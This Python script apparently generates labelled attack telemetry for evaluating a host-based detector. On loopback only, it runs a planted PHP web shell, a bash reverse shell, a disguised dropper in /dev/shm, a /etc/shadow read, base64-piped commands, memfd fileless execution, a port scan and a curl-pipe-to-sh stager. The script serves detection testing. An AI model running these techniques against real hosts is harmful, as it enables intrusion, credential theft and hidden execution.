#!/usr/bin/env python3
"""Attack scenarios against the lab host: harmless, self-cleaning, loopback only, one at a time.

Each scenario is one process tree with a root this script knows (pid and start time): ``run NAME --sidecar
CAPTURE.attack.json`` writes them down, so ``sentinel model eval`` counts only that tree in a system-wide
capture. The root is the attack's first process (the shell the web server starts, the reverse shell, the
dropper's shell…), never this script, so the harness's own activity does not count. Like the benign
workload's jobs, roots other than the web shell are children of a Python process running as root.

    python3 scripts/lab/attacks.py --list
    python3 scripts/lab/attacks.py run web_shell --sidecar /var/tmp/web_shell.cap.attack.json

The web shell needs the lab's web server: a running benign workload's, or one this script starts (and
stops) itself. "C2" listeners and the stager server are started here on 127.0.0.1 and closed afterwards.
Exit codes: 0 the attack ran, 1 it could not run (no service, timeout), 2 bad usage.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import datetime as dt
import http.server
import json
import socket
import subprocess
import sys
import threading
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import lab

C2_PORT = 4444  # the attacker's listener; an ephemeral port when 4444 is taken
STAGER_PORT = 31337
TIMEOUT_S = 60.0
CLK_TCK = lab.CLK_TCK
PAYLOAD_TEXT = "echo lab-attack-payload; id; uname -a; cat /etc/hostname\n"
PAYLOAD = base64.b64encode(PAYLOAD_TEXT.encode()).decode()
STAGE2 = b"id; uname -a; d=/tmp/.lab-x; mkdir -p $d && echo staged > $d/flag && ls -la $d; rm -rf $d\n"


@dataclass(slots=True)
class Root:
    """The attack tree's root process: what the sidecar names."""

    pid: int
    start_ticks: int
    exit_code: int


class ScenarioError(Exception):
    """The scenario could not run (as opposed to an attack command that failed, which is still an attack)."""


def spawn(argv: list[str], timeout: float = TIMEOUT_S) -> Root:
    """Start the attack's root process, note its start, wait for it (killed after ``timeout``).

    It runs with the lab administrator's environment, as the benign admin sessions do: an attacker with a
    root shell on the server, not this machine's developer environment.
    """
    before = lab.boottime_ticks()
    env = lab.admin_env()
    cwd = env["HOME"]
    quiet = subprocess.DEVNULL
    proc = subprocess.Popen(argv, env=env, stdin=quiet, stdout=quiet, stderr=quiet, cwd=cwd)
    ticks = lab.start_ticks_of(proc.pid, before)
    try:
        rc = proc.wait(timeout)
    except subprocess.TimeoutExpired as exc:
        proc.kill()
        proc.wait()
        raise ScenarioError(f"{argv[0]} did not finish within {timeout:.0f}s") from exc
    return Root(proc.pid, ticks, rc)


@contextlib.contextmanager
def listener(port: int = C2_PORT, send: bytes = b"") -> Iterator[int]:
    """A loopback TCP listener (the attacker's side) that sends ``send`` to whoever connects and drains the
    answer; yields the port it got."""
    try:
        srv = socket.create_server(("127.0.0.1", port))
    except OSError:
        srv = socket.create_server(("127.0.0.1", 0))
    srv.settimeout(0.5)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(5)
                with contextlib.suppress(OSError):
                    if send:
                        conn.sendall(send)
                    while conn.recv(4096):
                        pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield srv.getsockname()[1]
    finally:
        stop.set()
        thread.join(2)
        srv.close()


@contextlib.contextmanager
def stager(body: bytes) -> Iterator[int]:
    """A loopback HTTP server handing out a second-stage script (what ``curl … | sh`` fetches)."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    try:
        srv = http.server.ThreadingHTTPServer(("127.0.0.1", STAGER_PORT), Handler)
    except OSError:
        srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=srv.serve_forever, daemon=True)
    thread.start()
    try:
        yield srv.server_address[1]
    finally:
        srv.shutdown()
        srv.server_close()


# ---------------------------------------------------------------------------------------------- scenarios


def web_shell() -> Root:
    """A PHP web shell planted in the docroot; php-fpm runs its command with /bin/sh (as www-data)."""
    if not lab.port_open(lab.WEB_PORT):
        raise ScenarioError("the lab web server is not running")
    shell = lab.ROOT / "www" / "uploads" / "thumb.php"
    shell.parent.mkdir(parents=True, exist_ok=True)
    shell.write_text("<?php system($_GET['c']); ?>\n")  # the upload that happened before the attack
    try:
        with listener() as port:
            cmd = f"id; whoami; uname -a; bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; id >&3; uname -a >&3'"
            url = f"http://127.0.0.1:{lab.WEB_PORT}/uploads/thumb.php?c={urllib.parse.quote(cmd)}"
            with urllib.request.urlopen(url, timeout=TIMEOUT_S) as resp:
                resp.read()
                pid, ticks = resp.headers.get("X-Lab-Pid"), resp.headers.get("X-Lab-Start-Ticks")
    finally:
        shell.unlink(missing_ok=True)
    if pid is None or ticks is None:
        raise ScenarioError("the web server did not run the planted page")
    return Root(int(pid), int(ticks), 0)


def reverse_shell() -> Root:
    """bash -i with its terminal redirected to a loopback listener, which sends it commands."""
    commands = b"id\nwhoami\nuname -a\nhostname\nhead -3 /etc/passwd\nexit\n"
    with listener(send=commands) as port:
        return spawn(["/bin/bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"])


def dropper() -> Root:
    """A binary copied into /dev/shm under a kernel-thread-like name runs with a base64 payload in argv and
    sends it to the listener."""
    with listener() as port:
        code = (
            "import base64, socket, sys; "
            f's = socket.create_connection(("127.0.0.1", {port})); s.sendall(base64.b64decode(sys.argv[1]))'
        )
        script = (
            "d=/dev/shm/.ICE-lab; mkdir -p $d && cp /usr/bin/python3 $d/kworkerd && chmod 700 $d/kworkerd"
            f" && PYTHONHOME=/usr $d/kworkerd -c '{code}' {PAYLOAD}; rm -rf $d"
        )
        return spawn(["/bin/sh", "-c", script])


def credential_read() -> Root:
    """A renamed copy of cat in /var/tmp reads /etc/shadow and /etc/gshadow."""
    script = "t=/var/tmp/.sysupdate; cp /bin/cat $t && $t /etc/shadow /etc/gshadow > /dev/null; rm -f $t"
    return spawn(["/bin/sh", "-c", script])


def encoded_command() -> Root:
    """echo <base64> | base64 -d | sh: a command line hidden from a casual look."""
    return spawn(["/bin/sh", "-c", f"echo {PAYLOAD} | base64 -d | sh"])


def discovery_burst() -> Root:
    """Two dozen reconnaissance commands within a couple of seconds."""
    cmds = ["whoami", "id", "uname -a", "hostname", "cat /etc/passwd", "cat /etc/group",
            "cat /etc/os-release", "cat /proc/version", "ps -ef", "ip addr", "ip route", "ss -tanp",
            "cat /etc/resolv.conf",
            "ls -la /root /home", "find / -maxdepth 3 -perm -4000 -type f", "getent group sudo",
            "cat /etc/sudoers", "crontab -l", "ls -la /etc/cron.d", "env", "mount", "df -h", "last -n 5",
            "ls -la /tmp /dev/shm"]  # fmt: skip
    return spawn(["/bin/sh", "-c", "; ".join(f"{c} > /dev/null 2>&1" for c in cmds)])


def memfd_exec() -> Root:
    """A program written into an anonymous memory file and executed from it (fexecve): no file on disk."""
    code = (
        "import os\n"
        "fd = os.memfd_create('')\n"
        "with open('/usr/bin/id', 'rb') as f:\n"
        "    os.write(fd, f.read())\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    os.execve(fd, ['[kworker/u4:2]'], {})\n"
        "os.waitpid(pid, 0)\n"
    )
    return spawn(["/usr/bin/python3", "-c", code])


def port_scan() -> Root:
    """Connects to 1,000 loopback ports in a few seconds."""
    code = (
        "import socket\n"
        "for port in range(1, 1025):\n"
        "    s = socket.socket()\n"
        "    s.settimeout(0.2)\n"
        "    s.connect_ex(('127.0.0.1', port))\n"
        "    s.close()\n"
    )
    return spawn(["/usr/bin/python3", "-c", code])


def curl_pipe_sh() -> Root:
    """curl fetches a second stage from a loopback server and pipes it to sh."""
    with stager(STAGE2) as port:
        return spawn(["/bin/sh", "-c", f"curl -fsSL http://127.0.0.1:{port}/s.sh | sh"])


SCENARIOS: dict[str, Callable[[], Root]] = {
    "web_shell": web_shell,
    "reverse_shell": reverse_shell,
    "dropper": dropper,
    "credential_read": credential_read,
    "encoded_command": encoded_command,
    "discovery_burst": discovery_burst,
    "memfd_exec": memfd_exec,
    "port_scan": port_scan,
    "curl_pipe_sh": curl_pipe_sh,
}


def describe(name: str) -> str:
    return " ".join((SCENARIOS[name].__doc__ or "").split("\n\n")[0].split())


def run(name: str) -> Root:
    """Run one scenario in the lab (prepared here, and removed after, if no workload has it); the web shell
    starts the lab's services itself when no workload is running."""
    owned = not lab.ROOT.exists()
    services: list[subprocess.Popen[bytes]] = []
    try:
        if owned:
            lab.prepare()
        if name == "web_shell" and not lab.port_open(lab.WEB_PORT):
            services = lab.start_services()
        return SCENARIOS[name]()
    finally:
        lab.stop(services)
        if owned:
            lab.remove()


def main() -> int:
    ap = argparse.ArgumentParser(
        description=(__doc__ or "").split("\n\n")[0],
        epilog="Exit codes: 0 the attack ran, 1 it could not run, 2 bad usage.",
    )
    ap.add_argument("--list", action="store_true", help="list the scenarios and exit")
    sub = ap.add_subparsers(dest="cmd", metavar="COMMAND")
    one = sub.add_parser("run", help="run one scenario")
    one.add_argument("name", metavar="NAME", help="scenario (see --list)")
    one.add_argument("--sidecar", metavar="FILE", help="write the attack tree here (CAPTURE.attack.json)")
    args = ap.parse_args()
    if args.list:
        for name in SCENARIOS:
            print(f"{name:<16} {describe(name)}")
        return 0
    if args.cmd != "run":
        ap.print_usage(sys.stderr)
        print("attacks.py: give --list or run NAME", file=sys.stderr)
        return 2
    if args.name not in SCENARIOS:
        print(f"attacks.py: unknown scenario {args.name!r}; see --list", file=sys.stderr)
        return 2
    started = dt.datetime.now(dt.UTC)
    try:
        root = run(args.name)
    except (ScenarioError, RuntimeError, OSError) as exc:
        print(f"attacks.py: {args.name} could not run: {exc}", file=sys.stderr)
        return 1
    record = {
        "version": 1,
        "scenario": args.name,
        "description": describe(args.name),
        "root_pid": root.pid,
        "root_start_ticks": root.start_ticks,
        "clk_tck": CLK_TCK,
        "root_exit_code": root.exit_code,
        "started": started.isoformat().replace("+00:00", "Z"),
        "host": socket.gethostname(),
    }
    print(f"attacks.py: {args.name} root_pid={root.pid} exit={root.exit_code}", file=sys.stderr)
    if args.sidecar:
        Path(args.sidecar).write_text(json.dumps(record, indent=2) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
